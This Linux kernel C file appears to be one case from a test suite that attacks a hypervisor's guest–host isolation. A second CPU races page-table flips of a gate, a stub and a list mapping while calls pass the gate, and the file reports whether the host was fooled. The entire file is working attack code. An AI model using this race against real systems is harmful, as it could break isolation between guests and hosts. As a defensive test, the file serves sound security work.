// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * Another CPU flips the entries of page tables that map gate, stub and list while this one passes the gate.
 * Gate and stub alternate with copies of them, so that no call may miss its event; at the list's address, where
 * the guest has nothing, there is a page of the attacker's every other time.
 */

#include <linux/cpumask.h>
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/io.h>
#include <linux/kthread.h>
#include <linux/mm.h>
#include <linux/sched.h>
#include <linux/smp.h>

#include "attack.h"

#define CALLS       1000000
#define WRONG_S     3 /* in one second the host has seen all */
#define AT_ONCE     1000
#define ADDRESS     GENMASK_ULL(51, 12)
#define PRESENT     BIT_ULL(0)
#define LARGE       BIT_ULL(7)
#define KERNEL_PAGE 0x063 /* present, writable, accessed, dirty */

enum { GATE, STUB, LIST, FLIPS };

struct flip {
	void *va;
	u8 *page; /* the attacker's */
	u64 *entry, values[2];
};

struct flips {
	struct flip of[FLIPS];
	u64 *list_parent; /* leads to the table that was made for the list's address */
	unsigned long count;
};

static void flush_all(void *arg)
{
	struct flips *f = arg;
	unsigned int i;

	for (i = 0; i < FLIPS; i++)
		remap_flush(f->of[i].va);
}

/* In the tables that all of the kernel shares; the last one is not there yet. */
static int create_list_entry(struct flips *f)
{
	struct flip *list = &f->of[LIST];
	unsigned long va = (unsigned long)list->va;
	u64 *table = __va(__read_cr3() & ADDRESS), *entry = NULL, *last;
	int level;

	for (level = 3; level > 0; level--) {
		entry = &table[(va >> (12 + 9 * level)) & 511];
		if (level > 1 && (!(*entry & PRESENT) || (*entry & LARGE)))
			return -EBUSY;
		table = __va(*entry & ADDRESS);
	}
	if (*entry & PRESENT)
		return -EBUSY;
	last = (u64 *)get_zeroed_page(GFP_KERNEL);
	if (!last)
		return -ENOMEM;
	WRITE_ONCE(*entry, __pa(last) | KERNEL_PAGE);
	f->list_parent = entry;
	list->entry = &last[(va >> 12) & 511];
	list->values[1] = __pa(list->page) | KERNEL_PAGE;
	return 0;
}

static int prepare(struct flips *f, const struct ping *ping)
{
	void *vas[] = {gate, (void *)((unsigned long)ping->stub & PAGE_MASK), gate + SM_VA_LIST};
	unsigned int i;

	for (i = 0; i < FLIPS; i++) {
		struct flip *flip = &f->of[i];

		flip->va = vas[i];
		flip->page = (u8 *)get_zeroed_page(GFP_KERNEL);
		if (!flip->page)
			return -ENOMEM;
		if (i == LIST)
			break;
		memcpy(flip->page, flip->va, PAGE_SIZE);
		flip->entry = remap_entry(flip->va);
		if (!flip->entry)
			return -ENOENT;
		flip->values[0] = *flip->entry;
		flip->values[1] = remap_to(*flip->entry, flip->page);
	}
	return create_list_entry(f);
}

/* All as it was; true if nobody wrote to the attacker's pages. */
static bool undo(struct flips *f)
{
	u64 *last = f->list_parent ? __va(*f->list_parent & ADDRESS) : NULL;
	bool untouched = true;
	unsigned int i;

	for (i = 0; i < FLIPS; i++)
		if (f->of[i].entry)
			WRITE_ONCE(*f->of[i].entry, f->of[i].values[0]);
	if (last)
		WRITE_ONCE(*f->list_parent, 0);
	on_each_cpu(flush_all, f, 1);
	for (i = 0; i < FLIPS; i++) {
		struct flip *flip = &f->of[i];

		if (flip->page)
			untouched &= i == LIST ? !memchr_inv(flip->page, 0, PAGE_SIZE)
					       : !memcmp(flip->page, flip->va, PAGE_SIZE);
		free_page((unsigned long)flip->page);
	}
	free_page((unsigned long)last);
	return untouched;
}

static int flip(void *arg)
{
	struct flips *f = arg;
	unsigned int i;

	while (!kthread_should_stop()) {
		f->count++;
		/* Not in step with each other. */
		for (i = 0; i < FLIPS; i++)
			WRITE_ONCE(*f->of[i].entry, f->of[i].values[(f->count >> i) & 1]);
		if (f->count % AT_ONCE == 0)
			cond_resched();
	}
	return 0;
}

static void pass_gate(struct flips *f, const struct ping *ping)
{
	unsigned int i;

	for (i = 0; i < CALLS; i++) {
		flush_all(f);
		ping->call(0);
		if (i % AT_ONCE == 0)
			cond_resched();
	}
}

/* Whenever the host looked, it may by chance have been right. */
static void leave_wrong(struct flips *f)
{
	unsigned int i;

	WRITE_ONCE(*f->of[GATE].entry, f->of[GATE].values[1]);
	on_each_cpu(flush_all, f, 1);
	/* Each time an exit or two: a CPU that does nothing makes none. */
	for (i = 0; i < WRONG_S; i++)
		msleep(MSEC_PER_SEC);
}

static enum outcome flip_entries(void)
{
	enum outcome outcome = ATTACK_IMPOSSIBLE;
	struct task_struct *flipper;
	struct flips f = {};
	struct ping ping;
	bool untouched;

	if (num_online_cpus() < 2 || ping_find(&ping))
		return ATTACK_IMPOSSIBLE;
	if (prepare(&f, &ping))
		goto undo;
	flipper = kthread_create(flip, &f, "flipper");
	if (IS_ERR(flipper))
		goto undo;
	set_cpus_allowed_ptr(current, cpumask_of(0));
	kthread_bind(flipper, 1);
	wake_up_process(flipper);
	pass_gate(&f, &ping);
	kthread_stop(flipper);
	leave_wrong(&f);
	set_cpus_allowed_ptr(current, cpu_online_mask);
	outcome = ATTACK_REFUSED;
	attack_note("%u calls, %lu flips", CALLS, f.count);
undo:
	untouched = undo(&f);
	return untouched ? outcome : ATTACK_SUCCEEDED;
}

const struct attack flip_attacks[] = {{"flip-entries", flip_entries}, {}};
